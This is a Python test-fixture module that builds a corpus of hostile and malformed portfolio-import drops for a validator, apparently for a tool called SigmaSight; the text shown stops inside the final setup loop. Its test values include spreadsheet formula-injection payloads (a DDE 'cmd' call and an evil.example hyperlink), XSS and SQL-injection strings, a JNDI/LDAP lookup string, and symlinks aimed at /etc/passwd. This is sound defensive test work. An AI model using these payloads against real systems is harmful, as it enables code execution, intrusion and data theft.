"""A corpus of hostile and malformed client drops, for `test_hostile_drops.py`.

Each `HostileCase` is one drop: the bytes of `client.json` and `portfolio.csv`, an optional
filesystem trick (`setup`: symlinks, folders outside the imports folder, FIFOs, ...) and what the
reader must say about it:

- `expected`: problems that must be among `DropValidationError.problems` (file, words of the rule,
  and line / column where they apply); or
- no `expected`: the drop is hostile-looking but valid (formula-like or HTML text in names, tags
  and descriptions), must be accepted, and `verbatim` lists the values that must come out exactly.

The corpus runs with small limits (`LIMITS`, set as environment variables by the tests) so the
oversize cases stay fast. `build_corpus()` returns the cases; `CORPUS` is built once on import.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Any, Callable

EMAIL = "client@example.com"
CSV = "portfolio.csv"
CLIENT = "client.json"
FOLDER = "<folder>"  # Expected.file placeholder: the drop folder's own name

LIMITS = {
    "SIGMASIGHT_MAX_DROP_BYTES": "300000",
    "SIGMASIGHT_MAX_ROWS": "50",
    "SIGMASIGHT_MAX_FIELD_CHARS": "300",
}
MAX_BYTES, MAX_ROWS, MAX_FIELD = (int(v) for v in LIMITS.values())

COLUMNS = ["symbol", "quantity", "entry_price", "position_type", "entry_date", "tags",
           "underlying_symbol", "strike_price", "expiration_date"]
HEADER = ",".join(COLUMNS)
TODAY = date.today()
SHIPPED_AS_OF = date(2026, 8, 3)  # newest session of data/market/daily_adj_close_extract.parquet


class _Any:
    def __repr__(self) -> str:
        return "ANY"


ANY: Any = _Any()


@dataclass(frozen=True)
class Expected:
    """A problem the reader must report: `words` must occur in the rule."""

    file: str
    words: str
    line: Any = ANY  # int, None (file-level) or ANY
    column: Any = ANY  # str, None or ANY

    def matches(self, problem, folder_name: str) -> bool:
        file = folder_name if self.file == FOLDER else self.file
        return (
            problem.file == file
            and self.words in problem.rule
            and (self.line is ANY or problem.line == self.line)
            and (self.column is ANY or problem.column == self.column)
        )


@dataclass(frozen=True)
class HostileCase:
    name: str
    category: str
    client_json: bytes
    portfolio_csv: bytes
    expected: tuple[Expected, ...] = ()
    setup: str = "plain"
    folder_name: str = EMAIL
    env: tuple[tuple[str, str], ...] = ()
    verbatim: tuple[tuple[str, Any], ...] = ()  # ("full_name", text) / ("tags:AAPL", [tags]) / ("warning", words)
    # category "preflight": valid for the reader, but the pre-flight (drops/preflight.py) must report
    # these problems before anything is written; empty with `stored` set: accepted by the pre-flight too
    preflight: tuple[Expected, ...] = ()
    stored: tuple[tuple[str, Any], ...] = ()  # after a successful onboarding: ("symbol", "BRK-B") / ("warning", words)

    @property
    def accepted(self) -> bool:
        return not self.expected

    @property
    def key(self) -> str:
        return self.folder_name.lower()

    def fingerprint(self) -> str:
        digest = hashlib.sha256()
        for part in (self.setup, self.folder_name, repr(self.env)):
            digest.update(part.encode("utf-8", "surrogatepass") + b"\0")
        digest.update(self.client_json + b"\0" + self.portfolio_csv)
        return digest.hexdigest()

    def materialise(self, imports: Path, scratch: Path, folder_name: str | None = None) -> Path:
        """Create the drop (files and filesystem tricks); return the folder to give `read_drop`."""
        return SETUPS[self.setup](imports, scratch, folder_name or self.folder_name, self.client_json, self.portfolio_csv)


# --- filesystem setups ---------------------------------------------------------------------

def _write(folder: Path, client: bytes, portfolio: bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / CLIENT).write_bytes(client)
    (folder / CSV).write_bytes(portfolio)
    return folder


def _outside(scratch: Path, name: str, client: bytes, portfolio: bytes) -> Path:
    return _write(scratch / f"outside-{hashlib.md5(name.encode('utf-8', 'surrogateescape')).hexdigest()[:8]}" / name,
                  client, portfolio)


def _plain(imports, scratch, name, client, portfolio):
    return _write(imports / name, client, portfolio)


def _folder_symlink_outside(imports, scratch, name, client, portfolio):
    (imports / name).symlink_to(_outside(scratch, name, client, portfolio), target_is_directory=True)
    return imports / name


def _folder_symlink_inside(imports, scratch, name, client, portfolio):
    real = _write(imports / f".real-{name}", client, portfolio)  # hidden: the sensor ignores dot folders
    (imports / name).symlink_to(real, target_is_directory=True)
    return imports / name


def _file_symlink(which: tuple[str, ...], target: str | None = None):
    def setup(imports, scratch, name, client, portfolio):
        folder = _write(imports / name, client, portfolio)
        for file in which:
            content = (folder / file).read_bytes()
            (folder / file).unlink()
            if target is not None:
                (folder / file).symlink_to(target)
            else:
                secret = _outside(scratch, name, client, portfolio).parent / f"secret-{file}"
                secret.write_bytes(content)
                (folder / file).symlink_to(secret)
        return folder
    return setup


def _dangling_symlink(imports, scratch, name, client, portfolio):
    (imports / name).symlink_to(scratch / "does-not-exist", target_is_directory=True)
    return imports / name


def _symlink_loop(imports, scratch, name, client, portfolio):
    (imports / name).symlink_to(imports / name)
    return imports / name


def _dotdot_relative(imports, scratch, name, client, portfolio):
    outside = _outside(scratch, name, client, portfolio)
    return imports / os.path.relpath(outside, imports)  # imports/../../<scratch>/outside-x/<name>


def _absolute_outside(imports, scratch, name, client, portfolio):
    return _outside(scratch, name, client, portfolio).resolve()


def _nested(imports, scratch, name, client, portfolio):
    return _write(imports / "nested" / name, client, portfolio)


def _dotdot_name(imports, scratch, name, client, portfolio):
    _write(imports / name, client, portfolio)
    return imports / name / ".."  # the folder's name is '..': it is the imports folder itself


def _missing(which: tuple[str, ...]):
    def setup(imports, scratch, name, client, portfolio):
        folder = _write(imports / name, client, portfolio)
        for file in which:
            (folder / file).unlink()
        return folder
    return setup


def _directory_instead(file: str):
    def setup(imports, scratch, name, client, portfolio):
        folder = _write(imports / name, client, portfolio)
        (folder / file).unlink()
        (folder / file).mkdir()
        return folder
    return setup


def _fifo_portfolio(imports, scratch, name, client, portfolio):
    folder = _write(imports / name, client, portfolio)
    (folder / CSV).unlink()
    os.mkfifo(folder / CSV)  # reading it would block forever
    return folder


def _folder_is_file(imports, scratch, name, client, portfolio):
    (imports / name).write_bytes(client)
    return imports / name


SETUPS: dict[str, Callable[..., Path]] = {
    "plain": _plain,
    "folder_symlink_outside": _folder_symlink_outside,
    "folder_symlink_inside": _folder_symlink_inside,
    "client_symlink": _file_symlink((CLIENT,)),
    "portfolio_symlink": _file_symlink((CSV,)),
    "both_symlinks": _file_symlink((CLIENT, CSV)),
    "client_symlink_etc_passwd": _file_symlink((CLIENT,), "/etc/passwd"),
    "portfolio_symlink_dev_zero": _file_symlink((CSV,), "/dev/zero"),
    "dangling_symlink": _dangling_symlink,
    "symlink_loop": _symlink_loop,
    "dotdot_relative": _dotdot_relative,
    "absolute_outside": _absolute_outside,
    "nested": _nested,
    "dotdot_name": _dotdot_name,
    "missing_client": _missing((CLIENT,)),
    "missing_portfolio": _missing((CSV,)),
    "missing_both": _missing((CLIENT, CSV)),
    "client_is_directory": _directory_instead(CLIENT),
    "portfolio_is_directory": _directory_instead(CSV),
    "portfolio_fifo": _fifo_portfolio,
    "folder_is_file": _folder_is_file,
}
# setups whose folder is not a real folder directly inside the imports folder
UNSAFE_SETUPS = {"folder_symlink_outside", "folder_symlink_inside", "client_symlink", "portfolio_symlink",
                 "both_symlinks", "client_symlink_etc_passwd", "portfolio_symlink_dev_zero", "dangling_symlink",
                 "symlink_loop", "dotdot_relative", "absolute_outside", "nested", "dotdot_name",
                 "client_is_directory", "portfolio_is_directory", "portfolio_fifo", "folder_is_file"}


def remove_drop(imports: Path, keep: set[str]) -> None:
    """Delete everything in `imports` except the names in `keep` (symlinks are unlinked, not followed)."""
    for entry in list(imports.iterdir()):
        if entry.name in keep:
            continue
        if entry.is_symlink() or not entry.is_dir():
            entry.unlink()
        else:
            shutil.rmtree(entry)


# --- builders ------------------------------------------------------------------------------

GOOD_CLIENT = {
    "email": EMAIL,
    "full_name": "Test Client",
    "password": "Correct-Horse-Battery-9",
    "portfolio_name": "Test Portfolio",
    "portfolio_description": "for tests",
    "currency": "USD",
}


def client(**overrides: Any) -> bytes:
    """client.json bytes: the good client with `overrides` (a value of `...` removes the key)."""
    data = {**GOOD_CLIENT, **overrides}
    return json.dumps({k: v for k, v in data.items() if v is not ...}).encode()


def row(symbol="AAPL", quantity="100", entry_price="150.25", position_type="LONG", entry_date="2024-01-15",
        tags="Core Holdings", underlying_symbol="", strike_price="", expiration_date="") -> list[str]:
    return [symbol, quantity, entry_price, position_type, entry_date, tags, underlying_symbol, strike_price, expiration_date]


def option(symbol="SPY250919C00460000", quantity="2", entry_price="7.00", position_type="LC", entry_date="2024-01-10",
           tags="Options Overlay", underlying_symbol="SPY", strike_price="460.00", expiration_date="2025-09-19") -> list[str]:
    return row(symbol, quantity, entry_price, position_type, entry_date, tags, underlying_symbol, strike_price, expiration_date)


def portfolio(*rows: list[str], header: str = HEADER, eol: str = "\n") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=eol)
    for r in rows:
        writer.writerow(r)
    return (header + eol + out.getvalue()).encode()


GOOD_CSV = portfolio(row(), row("TSLA", "-300", "250.00", "SHORT", "2024-02-01", "Short Value Traps"))
GOOD_CLIENT_JSON = client()


def e(file: str, words: str, line: Any = ANY, column: Any = ANY) -> Expected:
    return Expected(file, words, line, column)


def build_corpus() -> list[HostileCase]:
    cases: list[HostileCase] = []

    def add(category: str, name: str, *, client_json: bytes = GOOD_CLIENT_JSON, portfolio_csv: bytes = GOOD_CSV,
            expected: tuple[Expected, ...] | Expected = (), **kw: Any) -> None:
        if isinstance(expected, Expected):
            expected = (expected,)
        cases.append(HostileCase(f"{category}: {name}", category, client_json, portfolio_csv, tuple(expected), **kw))

    # --- columns ---------------------------------------------------------------------------
    for col in COLUMNS:
        header = ",".join(c for c in COLUMNS if c != col)
        cells = [c for c, name in zip(row(), COLUMNS) if name != col]
        add("columns", f"missing {col}", portfolio_csv=portfolio(cells, header=header),
            expected=e(CSV, "required column is missing", 1, col))
    for extra in ("notes", "id", "Quantity2", "=cmd|' /C calc'!A0"):
        add("columns", f"extra column {extra!r}", portfolio_csv=portfolio(row() + ["x"], header=HEADER + "," + extra),
            expected=e(CSV, "unexpected column", 1, extra.lower()))
    add("columns", "trailing empty header", portfolio_csv=portfolio(row() + [""], header=HEADER + ","),
        expected=e(CSV, "unexpected column", 1, ""))
    for dup, header_dup in (("symbol", "symbol"), ("symbol", "SYMBOL"), ("quantity", " quantity "), ("tags", "Tags")):
        add("columns", f"duplicate header {header_dup!r}", portfolio_csv=portfolio(row() + ["x"], header=HEADER + "," + header_dup),
            expected=e(CSV, "duplicate column header", 1, dup))
    add("columns", "semicolon separated", portfolio_csv=HEADER.replace(",", ";").encode() + b"\nAAPL;100;150;LONG;2024-01-15;;;;\n",
        expected=(e(CSV, "required column is missing", 1, "quantity"), e(CSV, "unexpected column", 1)))
    add("columns", "tab separated", portfolio_csv=HEADER.replace(",", "\t").encode() + b"\nAAPL\t100\t150\tLONG\t2024-01-15\t\t\t\t\n",
        expected=e(CSV, "required column is missing", 1, "entry_price"))
    add("columns", "no header row", portfolio_csv=b"AAPL,100,150.25,LONG,2024-01-15,,,,\n",
        expected=e(CSV, "required column is missing", 1, "symbol"))
    add("columns", "header typo", portfolio_csv=portfolio(row(), header=HEADER.replace("quantity", "quantitiy")),
        expected=(e(CSV, "required column is missing", 1, "quantity"), e(CSV, "unexpected column", 1, "quantitiy")))
    add("columns", "header only", portfolio_csv=(HEADER + "\n").encode(), expected=e(CSV, "no positions", None))
    add("columns", "header and blank rows only", portfolio_csv=(HEADER + "\n\n,,,,,,,,\n  \n").encode(),
        expected=e(CSV, "no positions", None))
    add("columns", "row with too few fields", portfolio_csv=portfolio(row()[:-1]), expected=e(CSV, "has 8 fields", 2, None))
    add("columns", "row with too many fields", portfolio_csv=portfolio(row(), row("MSFT") + ["extra"]),
        expected=e(CSV, "has 10 fields", 3, None))
    reordered = list(reversed(COLUMNS))
    add("columns", "reordered columns are fine",
        portfolio_csv=portfolio(list(reversed(row(tags="=SUM(A1)"))), header=",".join(reordered)),
        verbatim=(("tags:AAPL", ["=SUM(A1)"]),))
    add("columns", "header case and spaces are fine",
        portfolio_csv=portfolio(row(), header=" , ".join(c.upper() for c in COLUMNS)), verbatim=(("tags:AAPL", ["Core Holdings"]),))

    # --- numbers ---------------------------------------------------------------------------
    bad_numbers = ["1,000", "1e3", "1E3", "1e-3", "NaN", "nan", "inf", "-inf", "Infinity", "", " ", "0x10", "½",
                   "１００", "١٠٠", "𝟏𝟎𝟎", "1_000", "$150", "150 USD", "1.2.3", "--5", "+-5", "(100)", "10%",
                   "1 000", ".", "-", "+", "null", "None", "true", "1/2", "²", "0b101", "1,5", "−5", "5-", "1e",
                   "sNaN", "0x1p3"]
    for value in bad_numbers:
        add("numbers", f"quantity {value!r}", portfolio_csv=portfolio(row(quantity=value)),
            expected=e(CSV, "plain number", 2, "quantity"))
        add("numbers", f"entry_price {value!r}", portfolio_csv=portfolio(row(entry_price=value)),
            expected=e(CSV, "plain number", 2, "entry_price"))
    for value in ("1e3", "NaN", "460,00", "４６０", "-460", "0", "abc", "inf"):
        add("numbers", f"strike_price {value!r}", portfolio_csv=portfolio(option(strike_price=value)),
            expected=e(CSV, "blank or a number > 0", 2, "strike_price"))
    for col, value, words in (
        ("quantity", "1.00001", "decimal places"), ("quantity", "1000000000000", "1e12"),
        ("quantity", "-1000000000000.5", "1e12"), ("entry_price", "150.12345", "decimal places"),
        ("entry_price", "100000000", "1e8"), ("entry_price", "0", "greater than 0"), ("entry_price", "-150", "greater than 0"),
        ("entry_price", "-0", "greater than 0"), ("entry_price", "0.0000", "greater than 0"),
    ):
        add("numbers", f"{col} {value!r} out of range", portfolio_csv=portfolio(row(**{col: value})),
            expected=e(CSV, words, 2, col))
    add("numbers", "leading plus and zeros are plain numbers", portfolio_csv=portfolio(row(quantity="+0100.5000", entry_price="0150.25")),
        verbatim=(("quantity:AAPL", "100.5000"), ("entry_price:AAPL", "150.25")))

    # --- zero quantities -------------------------------------------------------------------
    for value in ("0", "0.0", "-0", "+0", "0.0000", "00", ".0"):
        add("zero quantity", f"quantity {value!r}", portfolio_csv=portfolio(row(quantity=value)),
            expected=e(CSV, "must not be zero", 2, "quantity"))
    add("zero quantity", "zero option contracts", portfolio_csv=portfolio(option(quantity="0")),
        expected=e(CSV, "must not be zero", 2, "quantity"))

    # --- dates -----------------------------------------------------------------------------
    date_cases = [
        ("1900-01-01", "1970-01-01"), ("1969-12-31", "1970-01-01"), ("0001-01-01", "1970-01-01"),
        ("2999-01-01", "future"), ("9999-12-31", "future"), ((TODAY + timedelta(days=1)).isoformat(), "future"),
        ((TODAY + timedelta(days=400)).isoformat(), "future"),
        ("2024-02-30", "YYYY-MM-DD"), ("2023-02-29", "YYYY-MM-DD"), ("24-01-15", "YYYY-MM-DD"),
        ("2024/01/15", "YYYY-MM-DD"), ("01/15/2024", "YYYY-MM-DD"), ("15.01.2024", "YYYY-MM-DD"),
        ("20240115", "YYYY-MM-DD"), ("2024-1-5", "YYYY-MM-DD"), ("2024-13-01", "YYYY-MM-DD"),
        ("2024-00-10", "YYYY-MM-DD"), ("2024-01-32", "YYYY-MM-DD"), ("2024-01-00", "YYYY-MM-DD"),
        ("", "YYYY-MM-DD"), ("today", "YYYY-MM-DD"), ("2024-01-15T00:00:00", "YYYY-MM-DD"),
        ("2024-01-15 10:00", "YYYY-MM-DD"), ("２０２４-０１-１５", "YYYY-MM-DD"), ("2024-W03-1", "YYYY-MM-DD"),
        ("0000-01-01", "YYYY-MM-DD"), ("45306", "YYYY-MM-DD"), ("Jan 15 2024", "YYYY-MM-DD"),
        ("2024-01-15Z", "YYYY-MM-DD"), ("+2024-01-15", "YYYY-MM-DD"),
    ]
    for value, words in date_cases:
        add("dates", f"entry_date {value!r}", portfolio_csv=portfolio(row(entry_date=value)),
            expected=e(CSV, words, 2, "entry_date"))
    for value in ("2025-13-19", "2025/09/19", "19-09-2025", "２０２５-０９-１９", "2025-09-19T16:00"):
        add("dates", f"expiration_date {value!r}", portfolio_csv=portfolio(option(expiration_date=value)),
            expected=e(CSV, "blank or a real date", 2, "expiration_date"))
    add("dates", "entry today and 1970-01-01 are fine",
        portfolio_csv=portfolio(row(entry_date=TODAY.isoformat()), row("IBM", entry_date="1970-01-01")),
        verbatim=(("entry_date:AAPL", TODAY), ("entry_date:IBM", date(1970, 1, 1))))

    # --- position types --------------------------------------------------------------------
    for value in ("LONGG", "BUY", "SELL", "", "L", "S", "CALL", "PUT", "LONG SHORT", "ſhort", "ＬＯＮＧ",
                  "LONG\u200b", "LONG';DROP TABLE positions;--", "STOCK", "EQUITY", "LC/LP", "L0NG", "lông", "NULL"):
        add("types", f"position_type {value!r}", portfolio_csv=portfolio(row(position_type=value)),
            expected=e(CSV, "must be one of", 2, "position_type"))
    add("types", "mixed-case types are fine",
        portfolio_csv=portfolio(row(position_type="long"), option(position_type="Lc")),
        verbatim=(("position_type:AAPL", "LONG"), ("position_type:SPY250919C00460000", "LC")))

    # --- symbols ---------------------------------------------------------------------------
    for value in ("", "AA PL", "AAPL;", "<script>", "ﬀ", "ＡＡＰＬ", "ÄPPLE", "A" * 22, ".AAPL", "AAPL\u200b",
                  "AAPL'", '"AAPL"', "../etc/passwd", "AAPL\\", "AAPL,MSFT", "$AAPL", "AAPL*"):
        add("symbols", f"symbol {value!r}", portfolio_csv=portfolio(row(symbol=value)),
            expected=e(CSV, "ticker", 2, "symbol"))
    add("symbols", "bad underlying", portfolio_csv=portfolio(option(underlying_symbol="=SPY")),
        expected=e(CSV, "blank or a ticker", 2, "underlying_symbol"))
    add("symbols", "lower-case and index tickers are fine",
        portfolio_csv=portfolio(row("brk.b"), row("^GSPC"), row("BF/B")), verbatim=(("tags:BRK.B", ["Core Holdings"]),))

    # --- formula injection -----------------------------------------------------------------
    formulas = ["=1+1", '=HYPERLINK("http://evil.example","click")', "+AAPL", "-AAPL", "@SUM(A1)",
                "=cmd|' /C calc'!A0", "-2+3", "+1", "@AAPL", "=AAPL"]
    for value in formulas:  # never a valid ticker
        add("formula injection", f"symbol {value!r}", portfolio_csv=portfolio(row(symbol=value)),
            expected=e(CSV, "ticker", 2, "symbol"))
    text_formulas = ["=1+1", "+CMD", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example","click")',
                     "=cmd|' /C calc'!A0"]
    for value in text_formulas:  # valid text, stored verbatim
        add("formula injection", f"full_name {value!r}", client_json=client(full_name=value),
            verbatim=(("full_name", value),))
    for value in ("=1+1", "@SUM(1)", "-Growth", "+Income"):
        add("formula injection", f"portfolio_name {value!r}", client_json=client(portfolio_name=value),
            verbatim=(("portfolio_name", value),))
    for value in ("=cmd|' /C calc'!A0", "-10", "+x", "@here"):
        add("formula injection", f"portfolio_description {value!r}", client_json=client(portfolio_description=value),
            verbatim=(("portfolio_description", value),))
    for value in ("=SUM(A1)", "+1", "-2", "@x", '=HYPERLINK("http://x")', "=2+5*cmd"):
        add("formula injection", f"tag {value!r}", portfolio_csv=portfolio(row(tags=value)),
            verbatim=(("tags:AAPL", [value]),))
    add("formula injection", "several formula tags in one cell", portfolio_csv=portfolio(row(tags="=A1,+B2, -C3 ,@D4")),
        verbatim=(("tags:AAPL", ["=A1", "+B2", "-C3", "@D4"]),))

    # --- HTML / JS and other hostile text (valid, stored verbatim) --------------------------
    for col, value in (
        ("full_name", "<script>alert(1)</script>"), ("full_name", "Robert'); DROP TABLE users;--"),
        ("full_name", "abc\u202etxt.exe"), ("full_name", "Zoë 💼 Ω"), ("full_name", "{{7*7}} ${jndi:ldap://x/a}"),
        ("portfolio_name", "<img src=x onerror=alert(1)>"), ("portfolio_description", '"><svg onload=alert(1)>'),
        ("portfolio_description", "javascript:alert(document.cookie)"),
    ):
        add("html", f"{col} {value!r}", client_json=client(**{col: value}), verbatim=((col, value),))
    for value in ("<b>bold</b>", "<script>alert(1)</script>", "' OR 1=1 --"):
        add("html", f"tag {value!r}", portfolio_csv=portfolio(row(tags=value)), verbatim=(("tags:AAPL", [value]),))

    # --- option rules ----------------------------------------------------------------------
    for kind, qty in (("LONG", "10"), ("SHORT", "-10")):
        for field_name, value in (("underlying_symbol", "AAPL"), ("strike_price", "150"), ("expiration_date", "2025-09-19")):
            add("options", f"{field_name} on {kind}", portfolio_csv=portfolio(row(quantity=qty, position_type=kind, **{field_name: value})),
                expected=e(CSV, "blank for LONG/SHORT", 2, "underlying_symbol"))
    add("options", "all option fields on LONG",
        portfolio_csv=portfolio(row(underlying_symbol="AAPL", strike_price="150", expiration_date="2025-09-19")),
        expected=e(CSV, "blank for LONG/SHORT", 2, "underlying_symbol"))
    for kind, sym, qty, blank in (("LC", "SPY250919C00460000", "2", ("underlying_symbol",)),
                                  ("LC", "SPY250919C00460000", "2", ("strike_price",)),
                                  ("LC", "SPY250919C00460000", "2", ("expiration_date",)),
                                  ("LP", "SPY250919P00460000", "2", ("underlying_symbol", "strike_price", "expiration_date")),
                                  ("SC", "SPY250919C00460000", "-2", ("strike_price",)),
                                  ("SP", "SPY250919P00460000", "-2", ("expiration_date",))):
        add("options", f"{kind} without {'/'.join(blank)}",
            portfolio_csv=portfolio(option(sym, qty, position_type=kind, **{b: "" for b in blank})),
            expected=e(CSV, "need underlying_symbol", 2, "underlying_symbol"))
    occ = [
        ("strike mismatch", option(strike_price="470")), ("strike scale", option(strike_price="46.0")),
        ("expiry mismatch", option(expiration_date="2025-09-26")), ("underlying mismatch", option(underlying_symbol="QQQ")),
        ("LP with call symbol", option(position_type="LP")), ("LC with put symbol", option("SPY250919P00460000")),
        ("SC with put symbol", option("SPY250919P00460000", "-2", position_type="SC")),
        ("SP with call symbol", option(quantity="-2", position_type="SP")),
        ("not OCC", option("SPYCALL")), ("plain ticker as option", option("SPY")),
        ("OCC month 13", option("SPY251319C00460000", expiration_date="2025-12-19")),
        ("OCC day 32", option("SPY250932C00460000")), ("OCC root too long", option("ABCDEFG250919C00460000", underlying_symbol="ABCDEFG")),
        ("OSI symbol padded with spaces", option("SPY   250919C00460000")),
    ]
    for name, r in occ:
        expected = (e(CSV, "ticker", 2, "symbol"),) if name == "OCC root too long" else (e(CSV, "agreeing with", 2, "symbol"),)
        add("options", name, portfolio_csv=portfolio(r), expected=expected)
    add("options", "lower-case underlying is fine", portfolio_csv=portfolio(option(underlying_symbol="spy")),
        verbatim=(("underlying_symbol:SPY250919C00460000", "SPY"),))

    # --- expired options -------------------------------------------------------------------
    add("expired options", "expiry before entry", portfolio_csv=portfolio(
        option("SPY230915C00460000", entry_date="2024-01-10", expiration_date="2023-09-15")),
        expected=e(CSV, "before its entry_date", 2, "expiration_date"))
    add("expired options", "put expiry one day before entry", portfolio_csv=portfolio(
        option("QQQ240109P00400000", "-1", position_type="SP", entry_date="2024-01-10", underlying_symbol="QQQ",
               strike_price="400", expiration_date="2024-01-09")),
        expected=e(CSV, "before its entry_date", 2, "expiration_date"))
    add("expired options", "expired after entry is accepted with a warning", portfolio_csv=portfolio(
        option("SPY240315C00460000", entry_date="2024-01-10", expiration_date="2024-03-15")),
        verbatim=(("warning", "expired on 2024-03-15"),))
    add("expired options", "expiring on the entry day is fine", portfolio_csv=portfolio(
        option("SPY240110C00460000", entry_date="2024-01-10", expiration_date="2024-01-10")),
        verbatim=(("expiration_date:SPY240110C00460000", date(2024, 1, 10)),))

    # --- declared row count / checksum (issue 12: a CSV cut off at a line boundary) -------------
    for name, value, words, file, column in (
            ("rows cut off at a line boundary", 3, "declares portfolio_rows = 3", CSV, None),
            ("zero rows declared", 0, "whole number", CLIENT, "portfolio_rows"),
            ("rows as text", "2", "whole number", CLIENT, "portfolio_rows"),
            ("rows as boolean", True, "whole number", CLIENT, "portfolio_rows")):
        add("declared size", name, client_json=client(portfolio_rows=value), expected=e(file, words, None, column))
    add("declared size", "checksum of another file", client_json=client(portfolio_sha256="0" * 64),
        expected=e(CSV, "sha256 of portfolio.csv", None, None))
    add("declared size", "checksum not hex", client_json=client(portfolio_sha256="xyz"),
        expected=e(CLIENT, "64 hex digits", None, "portfolio_sha256"))
    add("declared size", "matching rows and checksum are fine",
        client_json=client(portfolio_rows=2, portfolio_sha256=hashlib.sha256(GOOD_CSV).hexdigest()), verbatim=(("rows", 2),))

    # --- pre-flight: valid for the reader, refused before any write (issue 12) --------------
    def pf(name: str, csv_bytes: bytes = GOOD_CSV, *, expected: tuple[Expected, ...] | Expected = (), rows: int = 1,
           stored: tuple = (), **kw: Any) -> None:
        expected = (expected,) if isinstance(expected, Expected) else expected
        add("preflight", name, portfolio_csv=csv_bytes, verbatim=(("rows", rows),), preflight=expected, stored=stored, **kw)

    pf("D1 ticker no provider has", portfolio(row("ZZZZ", "100", "10.00", entry_date="2025-06-02", tags="Core")),
       expected=e(CSV, "no prices", 2, "symbol"))
    pf("D1 ticker ending in a dot", portfolio(row("SPY.")), expected=e(CSV, "start or end", 2, "symbol"))
    pf("D1 OCC symbol on a LONG row", portfolio(row("SPY250919C00460000", "100", "7.00")),
       expected=e(CSV, "OCC option symbol", 2, "symbol"))
    pf("D1 option on an underlying without prices",
       portfolio(option("ZZZZ250919C00010000", underlying_symbol="ZZZZ", strike_price="10")),
       expected=e(CSV, "underlying", 2, "underlying_symbol"))
    pf("D1 index as a holding", portfolio(row("^GSPC")), expected=e(CSV, "index or a yield", 2, "symbol"))
    pf("D8 yield as a holding", portfolio(row("^TNX")), expected=e(CSV, "index or a yield", 2, "symbol"))
    pf("D1 class share with a slash is the market data's spelling", portfolio(row("BRK/B", "10", "400.00")),
       stored=(("symbol", "BRK-B"), ("warning", "BRK/B is stored as BRK-B")))
    pf("D2 market value overflows NUMERIC(16,2)", portfolio(row("AAPL", "999999999999", "150.00")),
       expected=e(CSV, "market value", 2, "quantity"))
    pf("D3 quantity with 16 significant digits", portfolio(row("F", "894120449492.8205", "1.00")),
       expected=e(CSV, "significant digits", 2, "quantity"))
    for email in ("a|b@example.com", "a...b@example.com"):
        pf(f"D4 partition separator in {email}", GOOD_CSV, rows=2, folder_name=email, client_json=client(email=email),
           expected=e(CLIENT, "Dagster", None, "email"))
    for name, value, words in (("cost 99", "$2b$99$" + "a" * 53, "cost must be"),
                               ("invalid salt characters", "$2b$12$" + "a" * 53, "bcrypt refuses"),
                               ("cost 20", "$2b$20$" + "e" * 53, "above 15")):
        pf(f"D5 password_hash {name}", GOOD_CSV, rows=2, client_json=client(password=..., password_hash=value),
           expected=e(CLIENT, words, None, "password_hash"))
    if TODAY > SHIPPED_AS_OF + timedelta(days=1):
        pf("D6 entry_date after the as-of date", portfolio(row(entry_date=(SHIPPED_AS_OF + timedelta(days=1)).isoformat())),
           expected=e(CSV, "after the as-of date", 2, "entry_date"))
    if TODAY > date(2026, 9, 18):
        pf("D7 option expiring between the as-of date and today",
           portfolio(option("SPY260918C00500000", entry_date="2026-01-05", strike_price="500", expiration_date="2026-09-18")),
           stored=(("symbol", "SPY260918C00500000"), ("warning", "after the as-of date")))
    pf("D9 BRK.B and BRK-B in one drop", portfolio(row("BRK.B", "10", "400"), row("BRK-B", "5", "410")), rows=2,
       expected=e(CSV, "same listing", 3, "symbol"))
    pf("D13 provider chain unavailable", env=(("SIGMASIGHT_MARKET_DATA_FILE", "/nonexistent/prices.parquet"),),
       rows=2, expected=e("market data", "unavailable", None))

    # --- signs -----------------------------------------------------------------------------
    for name, r in (("LONG negative", row(quantity="-10")), ("SHORT positive", row(quantity="300", position_type="SHORT")),
                    ("SHORT explicit plus", row(quantity="+300", position_type="SHORT")),
                    ("LC negative", option(quantity="-2")), ("LP negative", option("SPY250919P00460000", "-2", position_type="LP")),
                    ("SC positive", option(quantity="2", position_type="SC")),
                    ("SP positive", option("SPY250919P00460000", "2", position_type="SP"))):
        add("signs", name, portfolio_csv=portfolio(r), expected=e(CSV, "sign must match", 2, "quantity"))

    # --- duplicates ------------------------------------------------------------------------
    for name, other in (("quantity", row(quantity="200")), ("price", row(entry_price="151")),
                        ("date", row(entry_date="2024-01-16")), ("tags", row(tags="Other")),
                        ("type", row(quantity="-100", position_type="SHORT")), ("lower-case symbol", row("aapl", "200"))):
        add("duplicates", f"conflicting {name}", portfolio_csv=portfolio(row(), other),
            expected=(e(CSV, "conflicting", 2, "symbol"), e(CSV, "conflicting", 3, "symbol")))
    add("duplicates", "conflict among three rows", portfolio_csv=portfolio(row(), row("MSFT"), row(), row(quantity="1")),
        expected=(e(CSV, "conflicting", 2, "symbol"), e(CSV, "conflicting", 5, "symbol")))
    add("duplicates", "identical rows are collapsed", portfolio_csv=portfolio(row(), row()),
        verbatim=(("warning", "identical duplicate rows collapsed"), ("rows", 1)))
    add("duplicates", "identical after trimming and case", portfolio_csv=portfolio(row(), row(" aapl ", " 100 ", position_type="long")),
        verbatim=(("warning", "identical duplicate rows collapsed"), ("rows", 1)))

    # --- path traversal and filesystem tricks ----------------------------------------------
    for setup, file, words in (
        ("folder_symlink_outside", FOLDER, "symbolic link"), ("folder_symlink_inside", FOLDER, "symbolic link"),
        ("client_symlink", CLIENT, "symbolic link"), ("portfolio_symlink", CSV, "symbolic link"),
        ("both_symlinks", CSV, "symbolic link"), ("client_symlink_etc_passwd", CLIENT, "symbolic link"),
        ("portfolio_symlink_dev_zero", CSV, "symbolic link"), ("dangling_symlink", FOLDER, "symbolic link"),
        ("symlink_loop", FOLDER, "symbolic link"), ("dotdot_relative", FOLDER, "directly inside the imports folder"),
        ("absolute_outside", FOLDER, "directly inside the imports folder"), ("nested", FOLDER, "directly inside the imports folder"),
        ("dotdot_name", FOLDER, "directly inside the imports folder"), ("missing_client", CLIENT, "missing"),
        ("missing_portfolio", CSV, "missing"), ("missing_both", CLIENT, "missing"), ("client_is_directory", CLIENT, "not a regular file"),
        ("portfolio_is_directory", CSV, "not a regular file"), ("portfolio_fifo", CSV, "not a regular file"),
        ("folder_is_file", CLIENT, "missing"),
    ):
